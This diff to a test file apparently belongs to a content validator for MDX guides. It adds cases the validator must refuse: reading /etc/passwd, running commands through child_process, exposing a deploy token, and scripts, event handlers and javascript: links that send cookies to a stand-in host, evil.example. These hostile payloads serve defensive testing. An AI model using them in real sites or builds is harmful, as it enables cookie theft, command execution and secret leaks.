@@ -98,6 +98,21 @@ const refused: {
     files: { 'content/guide/typo.mdx': guide({}) },
     expect: [/content\/guide {2}error {2}unknown folder in the content folder \(found: "guide".*did you mean "guides"\?/],
   },
+  ...[
+    ['reads a file of the build machine', "import passwd from '/etc/passwd?raw'", /mdx-esm/],
+    ['reads a file next to it', "import notes from '../../notes.txt?raw'", /mdx-esm/],
+    ['runs a command in an export', "export const who = require('child_process').execSync('id').toString()", /mdx-esm/],
+    ['runs a command in an expression', "{require('child_process').execSync('id').toString()}", /mdx-expression/],
+    ['publishes an environment variable', '{process.env.DEPLOY_TOKEN}', /mdx-expression/],
+    ['ships a script to readers', '<script>{`fetch("https://evil.example/?" + document.cookie)`}</script>', /html-element/],
+    ['ships an event handler', '<img src="x.png" onerror="alert(document.cookie)" />', /event-handler/],
+    ['embeds a document that runs script', '<iframe srcdoc="<script>alert(1)</script>" />', /html-element/],
+    ['links to javascript:', '[Open the dashboard](javascript:alert(document.cookie))', /unsafe-url/],
+  ].map(([does, payload, rule], index) => ({
+    shape: `an entry that ${does as string}`,
+    files: { [`content/guides/payload-${index}.mdx`]: guide({}, `## Introduction\n\n${payload as string}\n`) },
+    expect: [new RegExp(`content/guides/payload-${index}\\.mdx:\\d+:\\d+ {2}error {2}.*\\(${(rule as RegExp).source}\\)`)],
+  })),
   {
     shape: 'a script file in public/',
     files: { 'public/steal.js': 'fetch("https://evil.example/?" + document.cookie)' },
